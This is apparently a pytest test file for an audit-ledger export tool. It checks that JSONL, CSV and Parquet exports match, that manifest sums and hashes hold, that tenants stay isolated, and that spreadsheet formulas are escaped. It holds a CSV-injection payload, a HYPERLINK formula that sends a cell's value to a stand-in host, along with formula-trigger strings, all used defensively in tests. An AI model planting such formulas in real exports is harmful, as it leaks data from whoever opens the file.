"""Tables beside an export: the same rows in every format, sums that hold, nothing that a spreadsheet runs."""

from __future__ import annotations

import csv
import hashlib
import json
from collections.abc import AsyncIterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
from pyarrow import parquet
from roggia_auditor import verify_export
from roggia_auditor.adapters.sqlite_ledger import SqliteLedger
from roggia_auditor.export.columns import COLUMNS, SUMS, Kind
from roggia_auditor.export.readable import ReadableExport
from roggia_auditor.export.tables import Format, guarded
from roggia_auditor.export.tenant import TenantExport
from roggia_auditor.heads.sealing import Sealer
from roggia_auditor.ledger.judging import Read, Rules, judge
from roggia_auditor.ledger.model import TOKENS
from roggia_auditor.ports import Ledger
from roggia_auditor.tlog.keys import SignerKey
from roggia_schemas.events import PromptUse

from tests.support.auditing import BOOK, STREAM, attempt, inference, read, usage
from tests.support.popularity import codec

ORIGIN = "audit.example.com"
KEY = SignerKey.generate(f"{ORIGIN}/head")
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def batch(count: int) -> list[Read]:
    """Inferences of two tenants: large counts, retries, none, unpriced, impossible ones, and words that bite."""
    kinds: list[Mapping[str, Any]] = [
        {"attempts": (attempt(usage(input=10**9, output=3)), attempt(usage(input=5)))},
        {"attempts": ()},
        {"attempts": (attempt(model="unheard-of"),), "request_id": FORMULA},
        {"attempts": (attempt(usage(input=-1)),)},
        {"prompt": PromptUse(name="a,b", version='"1"', variant="x\ny"), "latency_ms": 0.5, "first_token_ms": 0.25},
        {"request_id": "größe 模型 '"},
    ]
    return [
        read(inference(n + 1, tenant_id=("acme", "beta")[n % 2], **kinds[n // 2 % len(kinds)]), n) for n in range(count)
    ]


@pytest.fixture
async def ledger(tmp_path: Path) -> AsyncIterator[Ledger]:
    """One with records of two tenants, more of them than a page holds."""
    made = SqliteLedger(tmp_path / "ledger.sqlite3")
    await made.start()
    found = await made.before({STREAM: ["acme", "beta"]}, [])
    await made.append([judge(STREAM, batch(1_260), found.streams[STREAM], {}, Rules(BOOK, {}))])
    yield made
    await made.stop()


async def export(ledger: Ledger, folder: Path, formats: Sequence[Format], tenant: str = "acme") -> Mapping[str, Any]:
    """The proven folder, and the tables beside it."""
    sealed = await Sealer(ledger, ORIGIN, KEY).seal()
    streams = {stream.origin(ORIGIN): stream for stream in await ledger.streams()}
    await TenantExport(ledger, sealed, streams).write(tenant, folder)
    return await ReadableExport(ledger, sealed, streams, codec()).write(tenant, folder, formats)


def lines(folder: Path) -> list[dict[str, Any]]:
    """The JSON lines."""
    return [json.loads(line) for line in (folder / "readable.jsonl").read_text().splitlines()]


async def test_every_format_says_the_same(ledger: Ledger, tmp_path: Path) -> None:
    """Row by row and column by column; integers are strings in JSON and 64 bits in Parquet, and come back exactly."""
    folder = tmp_path / "out"
    await export(ledger, folder, list(Format))
    of_json, table = lines(folder), parquet.read_table(folder / "readable.parquet")
    with (folder / "readable.csv").open(newline="", encoding="utf-8") as file:
        of_csv = list(csv.DictReader(file))

    assert len(of_json) == table.num_rows == len(of_csv) == 630
    assert table.column_names == list(of_csv[0]) == list(of_json[0]) == [column.name for column in COLUMNS]
    for row, packed, shown in zip(of_json, table.to_pylist(), of_csv, strict=True):
        for column in COLUMNS:
            value = packed[column.name]
            integer = column.kind is Kind.INTEGER and value is not None
            assert row[column.name] == (str(value) if integer else value)
            text = guarded(value) if isinstance(value, str) else "" if value is None else str(value)
            assert shown[column.name] == text
    assert max(packed["cost_pico_usd"] or 0 for packed in table.to_pylist()) > 2**50


async def test_the_manifest_counts_what_is_there(ledger: Ledger, tmp_path: Path) -> None:
    """Records, sums of every class and of money, first and last number in each log, the checkpoint, hashes."""
    folder = tmp_path / "out"
    manifest = await export(ledger, folder, [Format.JSONL, Format.CSV])
    rows = lines(folder)

    assert manifest == json.loads((folder / "readable.json").read_text())
    assert (manifest["records"], manifest["tenant"]) == ("630", "acme")
    assert manifest["sums"] == {name: str(sum(int(row[name] or 0) for row in rows)) for name in SUMS}
    assert manifest["unpriced"] == str(sum(row["status"] == "UNPRICED" for row in rows))
    assert manifest["numbers"] == [{"log": STREAM.origin(ORIGIN), "first": "1", "last": "630"}]
    assert [int(row["tenant_seq"]) for row in rows] == list(range(1, 631))
    assert manifest["checkpoint"] == (folder / "head.checkpoint").read_text()
    assert set(manifest["files"]) == {"readable.jsonl", "readable.csv"}
    for name, held in manifest["files"].items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == held["sha256"]
        assert int(held["bytes"]) == (folder / name).stat().st_size


async def test_the_proven_part_is_untouched_and_holds(ledger: Ledger, tmp_path: Path) -> None:
    """Tables beside it change nothing of it; its sums are theirs."""
    folder = tmp_path / "out"
    manifest = await export(ledger, folder, [Format.PARQUET])
    report = verify_export.check(folder, str(KEY.verifier()), [])
    assert str(report["records"]) == manifest["records"]
    assert report["pico_usd"] == manifest["sums"]["cost_pico_usd"]
    assert set(json.loads((folder / "manifest.json").read_text())["files"]) == {
        "head.checkpoint",
        "proof.json",
        "records.jsonl",
    }


async def test_nothing_of_another_tenant_is_in_a_table(ledger: Ledger, tmp_path: Path) -> None:
    """Not its name, not its requests."""
    folder = tmp_path / "out"
    await export(ledger, folder, [Format.JSONL, Format.CSV], "beta")
    text = (folder / "readable.jsonl").read_text() + (folder / "readable.csv").read_text()
    assert "acme" not in text
    assert 'req-1"' not in text
    assert 'req-2"' in text


async def test_tokens_are_those_that_were_booked(ledger: Ledger, tmp_path: Path) -> None:
    """Sums over a table's live rows are the ledger's sums, class by class."""
    manifest = await export(ledger, tmp_path / "out", [Format.JSONL])
    held = {name: sum(getattr(cell, name) for cell in (await ledger.usage("acme", "")).values()) for name in TOKENS}
    assert {name: int(manifest["sums"][name]) for name in TOKENS} == held


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "'=1"])
def test_a_text_that_a_spreadsheet_would_run_is_marked(text: str) -> None:
    """With one ' in front, which a reader takes away again: the mark itself is marked too."""
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "req-1", "a=b", "1-2", "größe"])
def test_an_ordinary_text_is_left_alone(text: str) -> None:
    """Ids and names stay what they are."""
    assert guarded(text) == text


async def test_a_formula_in_a_request_id_reaches_no_spreadsheet(ledger: Ledger, tmp_path: Path) -> None:
    """It is text in the CSV, and itself in JSON."""
    folder = tmp_path / "out"
    await export(ledger, folder, [Format.JSONL, Format.CSV])
    with (folder / "readable.csv").open(newline="", encoding="utf-8") as file:
        shown = {row["request_id"] for row in csv.DictReader(file)}
    assert f"'{FORMULA}" in shown
    assert FORMULA in {row["request_id"] for row in lines(folder)}
    assert not [one for one in shown if one[:1] in "=+-@" and one]
